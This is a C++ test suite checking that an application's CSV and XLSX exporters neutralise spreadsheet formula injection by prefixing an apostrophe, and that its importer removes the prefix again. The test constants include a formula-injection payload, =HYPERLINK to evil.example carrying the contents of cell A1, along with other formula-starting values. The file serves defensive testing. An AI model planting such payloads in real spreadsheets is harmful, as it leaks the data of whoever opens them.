// Spreadsheet formula injection (OWASP "CSV injection"): every writer of CSV and XLSX files gets values that a
// spreadsheet would run (an agent named =HYPERLINK(...), a wadah named @SUM(1), a bank written +BNI) and must
// write them as text with a leading apostrophe, while numbers, negative amounts included, stay numbers. The
// rule lives in core/csvcell; these tests go through each writer, not through the rule alone.
#include "core/csvcell.h"
#include "figures/kpiexport.h"
#include "figures/unitexport.h"
#include "imports/importer.h"
#include "imports/source.h"
#include "imports/values.h"
#include "incentives/monthexport.h"
#include "incentives/transferfile.h"
#include "review/signalexport.h"
#include "roster/rosterexport.h"
#include "ui/xlsxexport.h"

#include <QDir>
#include <QFile>
#include <QStandardItemModel>
#include <QTableView>
#include <QTemporaryDir>
#include <gtest/gtest.h>

using namespace perisai;

namespace {

const QString kHyperlink = QStringLiteral("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")");
const QString kSum = QStringLiteral("@SUM(1)");
const QString kPlus = QStringLiteral("+BNI");
const QString kMinus = QStringLiteral("-2+3");
const QString kTab = QStringLiteral("\t=1+1");
const QString kCr = QStringLiteral("\r=1+1");

QString readText(const QString &path)
{
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? QString::fromUtf8(f.readAll()) : QString();
}

struct Cell {
    QString text;
    bool number = false;
};

// Every non-empty row of an XLSX file's first sheet, as the import reads it (text as written, not trimmed).
QList<QList<Cell>> readXlsx(const QString &path)
{
    QList<QList<Cell>> rows;
    auto source = imports::openSource(path);
    EXPECT_TRUE(source.ok()) << source.errorText().toStdString();
    if (!source)
        return rows;
    imports::Record record;
    while ((*source)->next(record)) {
        QList<Cell> row;
        for (size_t i = 0; i < record.fields.size(); ++i)
            row.append({imports::values::toQString(record.fields[i]), record.isNumeric(int(i))});
        rows.append(row);
    }
    EXPECT_FALSE((*source)->problem().has_value()) << (*source)->problem()->reason.toStdString();
    return rows;
}

// Only the file written: no temporary file left next to it.
QStringList filesIn(const QTemporaryDir &dir)
{
    return QDir(dir.path()).entryList(QDir::Files | QDir::Hidden | QDir::NoDotAndDotDot, QDir::Name);
}

} // namespace

TEST(FormulaInjection, TheRuleInOnePlace)
{
    for (const QString &hostile : {kHyperlink, kSum, kPlus, kMinus, kTab, kCr}) {
        EXPECT_TRUE(csv::looksLikeFormula(hostile)) << hostile.toStdString();
        EXPECT_EQ(csv::neutralised(hostile), QLatin1Char('\'') + hostile);
        // Neutralising twice changes nothing more.
        EXPECT_EQ(csv::neutralised(csv::neutralised(hostile)), QLatin1Char('\'') + hostile);
    }
    for (const QString &plain : {QStringLiteral("Siti Aminah"), QStringLiteral("0812-3456"), QStringLiteral("a=b"), QString()})
        EXPECT_EQ(csv::neutralised(plain), plain);
    EXPECT_EQ(csv::cell(kSum), QStringLiteral("'@SUM(1)"));
    EXPECT_EQ(csv::cell(QStringLiteral("=1,2")), QStringLiteral("\"'=1,2\""));
    EXPECT_EQ(csv::cell(QStringLiteral("a;b")), QStringLiteral("\"a;b\""));
    EXPECT_EQ(csv::cell(kHyperlink), QStringLiteral("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Klik\"\")\""));
    EXPECT_EQ(csv::quoted(kMinus), QStringLiteral("\"'-2+3\""));
    // Numbers are not text: a negative amount stays a number.
    EXPECT_EQ(csv::value(QVariant::fromValue(qint64(-5000))), QStringLiteral("-5000"));
    EXPECT_EQ(csv::value(-2.5), QStringLiteral("-2.5"));
    EXPECT_EQ(csv::value(QVariant(-7)), QStringLiteral("-7"));
    EXPECT_EQ(csv::value(QStringLiteral("-5000")), QStringLiteral("'-5000")); // text that looks like one is text
    EXPECT_EQ(csv::value(QDate(2024, 3, 5)), QStringLiteral("05/03/2024"));
    EXPECT_EQ(csv::value(QVariant()), QString());
}

TEST(FormulaInjection, TheImportTakesTheApostropheOffAgain)
{
    using imports::values::trim;
    EXPECT_EQ(trim("'+62 812 3456 7890"), "+62 812 3456 7890");
    EXPECT_EQ(trim(" '=HYPERLINK(1) "), "=HYPERLINK(1)");
    EXPECT_EQ(trim("'@SUM(1)"), "@SUM(1)");
    EXPECT_EQ(trim("'\t=1"), "=1"); // the tab is space around the value, as it always was
    EXPECT_EQ(trim("'Jum'at"), "'Jum'at"); // an apostrophe before anything else is the value's own
    EXPECT_EQ(trim("'"), "'");
}

TEST(FormulaInjection, XlsxTextCellsAreTextAndNumbersStayNumbers)
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("out.xlsx"));
    ui::Sheet sheet{QStringLiteral("Data"), kHyperlink, {kSum, QStringLiteral("Amount"), QStringLiteral("Share"), QStringLiteral("Date")}, {}};
    sheet.rows.push_back({kHyperlink, QVariant::fromValue(qint64(-5000)), -0.25, QDate(2024, 3, 5)});
    sheet.rows.push_back({kPlus, QVariant(-7), QStringLiteral("-5000"), kTab});
    sheet.rows.push_back({kMinus, QVariant(0), kCr, QStringLiteral("Siti")});
    ASSERT_TRUE(ui::writeXlsx(path, {sheet}).ok());
    const auto rows = readXlsx(path);
    ASSERT_EQ(rows.size(), 5); // title, header, three rows
    EXPECT_EQ(rows[0][0].text, QLatin1Char('\'') + kHyperlink);
    EXPECT_EQ(rows[1][0].text, QStringLiteral("'@SUM(1)"));
    EXPECT_EQ(rows[2][0].text, QLatin1Char('\'') + kHyperlink);
    EXPECT_FALSE(rows[2][0].number);
    EXPECT_EQ(rows[2][1].text, QStringLiteral("-5000"));
    EXPECT_TRUE(rows[2][1].number);
    EXPECT_EQ(rows[2][2].text, QStringLiteral("-0.25"));
    EXPECT_TRUE(rows[2][2].number);
    EXPECT_EQ(rows[2][3].text, QStringLiteral("2024-03-05")); // a date cell
    EXPECT_EQ(rows[3][0].text, QStringLiteral("'+BNI"));
    EXPECT_EQ(rows[3][1].text, QStringLiteral("-7"));
    EXPECT_TRUE(rows[3][1].number);
    EXPECT_EQ(rows[3][2].text, QStringLiteral("'-5000"));
    EXPECT_FALSE(rows[3][2].number);
    EXPECT_EQ(rows[3][3].text, QLatin1Char('\'') + kTab);
    EXPECT_EQ(rows[4][0].text, QStringLiteral("'-2+3"));
    // libxlsxwriter writes the carriage return as the XML escape _x000D_, which Excel reads back as the
    // character; the import's reader leaves the escape as it is. The apostrophe comes first either way.
    EXPECT_EQ(rows[4][2].text, QStringLiteral("'_x000D_=1+1"));
    EXPECT_EQ(rows[4][3].text, QStringLiteral("Siti"));
    EXPECT_EQ(filesIn(dir), QStringList{QStringLiteral("out.xlsx")});
}

TEST(FormulaInjection, AModelExportedAsShown)
{
    // The agreements list, the dashboard's tables and the drill-down lists are exported through sheetFromModel.
    QStandardItemModel model(1, 2);
    model.setHorizontalHeaderLabels({QStringLiteral("Nama"), QStringLiteral("Selisih")});
    model.setData(model.index(0, 0), kHyperlink);
    model.setData(model.index(0, 1), QVariant::fromValue(qint64(-12)), Qt::EditRole);
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("model.xlsx"));
    ASSERT_TRUE(ui::writeXlsx(path, {ui::sheetFromModel(model, QStringLiteral("List"), kSum)}).ok());
    const auto rows = readXlsx(path);
    ASSERT_EQ(rows.size(), 3);
    EXPECT_EQ(rows[0][0].text, QStringLiteral("'@SUM(1)"));
    EXPECT_EQ(rows[2][0].text, QLatin1Char('\'') + kHyperlink);
    EXPECT_EQ(rows[2][1].text, QStringLiteral("-12"));
    EXPECT_TRUE(rows[2][1].number);
}

TEST(FormulaInjection, RosterExportsAsCsvAndXlsx)
{
    QStandardItemModel model(2, 3);
    model.setHorizontalHeaderLabels({QStringLiteral("Kode"), QStringLiteral("Nama"), QStringLiteral("Saldo")});
    model.setData(model.index(0, 0), QStringLiteral("AG-001"));
    model.setData(model.index(0, 1), kHyperlink);
    model.setData(model.index(0, 2), QVariant::fromValue(qint64(-5000)), Qt::EditRole);
    model.setData(model.index(1, 0), kSum);
    model.setData(model.index(1, 1), kPlus);
    model.setData(model.index(1, 2), QVariant::fromValue(qint64(42)), Qt::EditRole);
    QTableView view;
    view.setModel(&model);
    QTemporaryDir dir;

    const QString csv = dir.filePath(QStringLiteral("agen.csv"));
    ASSERT_TRUE(roster::exportView(view, csv, QStringLiteral("Agen"), QString()).ok());
    const QStringList lines = readText(csv).remove(QChar(0xFEFF)).split(QStringLiteral("\r\n"), Qt::SkipEmptyParts);
    ASSERT_EQ(lines.size(), 3);
    EXPECT_EQ(lines[1], QStringLiteral("AG-001;\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Klik\"\")\";-5000"));
    EXPECT_EQ(lines[2], QStringLiteral("'@SUM(1);'+BNI;42"));

    const QString xlsx = dir.filePath(QStringLiteral("agen.xlsx"));
    ASSERT_TRUE(roster::exportView(view, xlsx, QStringLiteral("Agen"), kMinus).ok());
    const auto rows = readXlsx(xlsx);
    ASSERT_EQ(rows.size(), 4);
    EXPECT_EQ(rows[0][0].text, QStringLiteral("'-2+3"));
    EXPECT_EQ(rows[2][1].text, QLatin1Char('\'') + kHyperlink);
    EXPECT_EQ(rows[2][2].text, QStringLiteral("-5000"));
    EXPECT_TRUE(rows[2][2].number);
    EXPECT_EQ(rows[3][0].text, QStringLiteral("'@SUM(1)"));
    EXPECT_EQ(filesIn(dir), (QStringList{QStringLiteral("agen.csv"), QStringLiteral("agen.xlsx")}));
}

TEST(FormulaInjection, KpiUnitTableAndSignalsAsCsv)
{
    figures::KpiSummary summary;
    summary.officeCode = kSum;
    const QString kpi = figures::kpiCsv(summary);
    EXPECT_TRUE(kpi.contains(QStringLiteral("\noffice,'@SUM(1)\n"))) << kpi.toStdString();

    figures::UnitTable table;
    figures::UnitFigures unit;
    unit.code = kPlus;
    unit.name = kHyperlink;
    unit.acquisitions = 3;
    table.rows.push_back(unit);
    const QStringList units = figures::unitCsv(table).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    ASSERT_EQ(units.size(), 2);
    EXPECT_TRUE(units[1].startsWith(QStringLiteral("'+BNI,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Klik\"\")\",3,")))
        << units[1].toStdString();

    figures::AgentSignal signal;
    signal.agentCode = kMinus;
    signal.wadahCode = kTab;
    signal.detail = kHyperlink;
    signal.value = -0.5;
    signal.count = 2;
    const QStringList flagged = review::signalsCsv({{&signal, review::CaseState::Open}}).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    ASSERT_EQ(flagged.size(), 2);
    EXPECT_TRUE(flagged[1].startsWith(QStringLiteral("'-2+3,'\t=1+1,"))) << flagged[1].toStdString();
    EXPECT_TRUE(flagged[1].contains(QStringLiteral(",-0.5,"))) << flagged[1].toStdString();
    EXPECT_TRUE(flagged[1].endsWith(QStringLiteral(",open,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Klik\"\")\"")))
        << flagged[1].toStdString();
}

TEST(FormulaInjection, IncentiveMonthAndBankTransferFiles)
{
    incentives::MonthView v;
    v.officeCode = kSum;
    v.figures.month = YearMonth(2024, 5);
    v.figures.rule.name = kPlus;
    incentives::AgentIncentive agent;
    agent.basis.agentId = 1;
    agent.basis.agentCode = kHyperlink;
    agent.basis.wadahCode = kMinus;
    agent.adjustment = -5000; // a correction of an earlier month: a negative amount, still a number
    agent.total = 10000;
    agent.net = 10000;
    v.figures.agents.push_back(agent);
    incentives::WadahIncentive wadah;
    wadah.wadahId = 7;
    wadah.wadahCode = kMinus;
    wadah.wadahName = QStringLiteral("Koperasi");
    wadah.receives = 10000;
    v.figures.wadah.push_back(wadah);

    const QStringList month = incentives::monthCsv(v).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    ASSERT_EQ(month.size(), 3);
    EXPECT_TRUE(month[1].startsWith(QStringLiteral("2024-05,'@SUM(1),'+BNI,draft,agent,\"'=HYPERLINK("))) << month[1].toStdString();
    EXPECT_TRUE(month[1].contains(QStringLiteral(",'-2+3,0,0,0,0,0,-5000,10000,"))) << month[1].toStdString();

    incentives::Payees payees;
    payees.wadah.insert(7, {kMinus, kHyperlink, QString(), kPlus, QStringLiteral("0123456789")});
    const ui::Sheet sheet = incentives::transferSheet(v, payees);
    QTemporaryDir dir;
    const QString csv = dir.filePath(QStringLiteral("transfer.csv"));
    ASSERT_TRUE(incentives::writeTransferFile(csv, sheet).ok());
    const QStringList lines = readText(csv).split(QStringLiteral("\r\n"), Qt::SkipEmptyParts);
    ASSERT_EQ(lines.size(), 2);
    EXPECT_EQ(lines[1], QStringLiteral("'-2+3,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Klik\"\")\",'+BNI,0123456789,10000,INS-202405--2+3"));

    const QString xlsx = dir.filePath(QStringLiteral("transfer.xlsx"));
    ASSERT_TRUE(incentives::writeTransferFile(xlsx, sheet).ok());
    const auto rows = readXlsx(xlsx);
    ASSERT_EQ(rows.size(), 3);
    EXPECT_EQ(rows[2][0].text, QStringLiteral("'-2+3"));
    EXPECT_EQ(rows[2][1].text, QLatin1Char('\'') + kHyperlink);
    EXPECT_EQ(rows[2][2].text, QStringLiteral("'+BNI"));
    EXPECT_EQ(rows[2][3].text, QStringLiteral("0123456789"));
    EXPECT_FALSE(rows[2][3].number); // an account number keeps its leading zero
    EXPECT_EQ(rows[2][4].text, QStringLiteral("10000"));
    EXPECT_TRUE(rows[2][4].number);
}

TEST(FormulaInjection, TheListOfRejectedRows)
{
    const QByteArray csv = imports::issuesCsv({{kSum, 2, kPlus, kHyperlink, QStringLiteral("bad")},
                                               {QStringLiteral("a.csv"), 3, QStringLiteral("nama"), kTab, kMinus}});
    const QStringList lines = QString::fromUtf8(csv).remove(QChar(0xFEFF)).split(QStringLiteral("\r\n"), Qt::SkipEmptyParts);
    ASSERT_EQ(lines.size(), 3);
    EXPECT_EQ(lines[1], QStringLiteral("\"'@SUM(1)\",2,\"'+BNI\",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Klik\"\")\",\"bad\""));
    EXPECT_EQ(lines[2], QStringLiteral("\"a.csv\",3,\"nama\",\"'\t=1+1\",\"'-2+3\""));
}
